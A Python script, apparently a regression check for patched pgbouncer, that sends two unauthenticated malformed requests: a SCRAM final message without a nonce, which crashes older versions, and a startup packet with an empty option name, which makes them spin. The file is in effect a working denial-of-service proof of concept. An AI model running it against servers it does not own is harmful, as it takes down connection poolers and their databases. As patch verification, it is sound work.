#!/usr/bin/env python3
"""The unauthenticated requests of pgbouncer's advisories that our patches fix.

usage: pgbouncer-cves.py CASE HOST PORT USER DATABASE

CASE is one of:
- scram-final-without-nonce (CVE-2026-19888): starts a SCRAM-SHA-256 exchange as a client would,
  then answers the server-first-message with `c=biws,p=<32 random bytes>` and no `r=`. pgbouncer
  before 1.26.0 passed the missing nonce to strlen() and died of SIGSEGV.
- empty-option-name (CVE-2026-107349): a startup packet whose `options` is `-c=`. pgbouncer before
  1.26.1, with ignore_startup_parameters set (ours is by default), spun for ever on it.

Prints what the server answered to the request: "error: <its message>", "closed" (the connection
ended without an answer, as when the pooler crashed), "no answer" (nothing within 5 s, as when it
spins) or "refused" (nothing listens). Exits 0 when it got as far as the request, 2 otherwise.
"""
import base64
import os
import socket
import struct
import sys


def message(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("!I", len(body) + 4) + body


def read_message(sock: socket.socket):
    """One backend message as (kind, body), or None when the server closed the connection."""
    head = read_exactly(sock, 5)
    if head is None:
        return None
    kind, length = head[:1], struct.unpack("!I", head[1:])[0]
    body = read_exactly(sock, length - 4)
    return None if body is None else (kind, body)


def read_exactly(sock: socket.socket, n: int):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            return None
        data += chunk
    return data


def error_text(body: bytes) -> str:
    fields = dict((f[:1], f[1:].decode(errors="replace")) for f in body.split(b"\0") if f)
    return fields.get(b"M", "?")


def startup(sock: socket.socket, user: str, database: str, extra: bytes = b"") -> None:
    params = b"user\0" + user.encode() + b"\0database\0" + database.encode() + b"\0" + extra + b"\0"
    sock.sendall(struct.pack("!II", len(params) + 8, 196608) + params)


def answer(sock: socket.socket) -> str:
    try:
        reply = read_message(sock)
    except socket.timeout:
        return "no answer"
    if reply is None:
        return "closed"
    if reply[0] == b"E":
        return f"error: {error_text(reply[1])}"
    return f"answered {reply[0]!r}"


def empty_option_name(sock: socket.socket, user: str, database: str) -> int:
    startup(sock, user, database, b"options\0-c=\0")
    print(answer(sock))
    return 0


def scram_final_without_nonce(sock: socket.socket, user: str, database: str) -> int:
    startup(sock, user, database)
    reply = read_message(sock)
    if reply is None or reply[0] != b"R" or struct.unpack("!I", reply[1][:4])[0] != 10:
        print(f"no SASL offer: {reply!r}")
        return 2
    client_first = b"n,,n=,r=" + base64.b64encode(os.urandom(18))
    sock.sendall(message(b"p", b"SCRAM-SHA-256\0" + struct.pack("!I", len(client_first)) + client_first))
    reply = read_message(sock)
    if reply is None or reply[0] != b"R" or struct.unpack("!I", reply[1][:4])[0] != 11:
        print(f"no server-first-message: {reply!r}")
        return 2
    sock.sendall(message(b"p", b"c=biws,p=" + base64.b64encode(os.urandom(32))))
    print(answer(sock))
    return 0


CASES = {"scram-final-without-nonce": scram_final_without_nonce, "empty-option-name": empty_option_name}


def main() -> int:
    if len(sys.argv) != 6 or sys.argv[1] not in CASES:
        print(f"usage: pgbouncer-cves.py {{{'|'.join(CASES)}}} HOST PORT USER DATABASE", file=sys.stderr)
        return 2
    case, host, port, user, database = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    try:
        sock = socket.create_connection((host, port), timeout=5)
    except OSError:
        print("refused")
        return 2
    with sock:
        try:
            return CASES[case](sock, user, database)
        except socket.timeout:
            print("no answer before the request")
            return 2


if __name__ == "__main__":
    sys.exit(main())
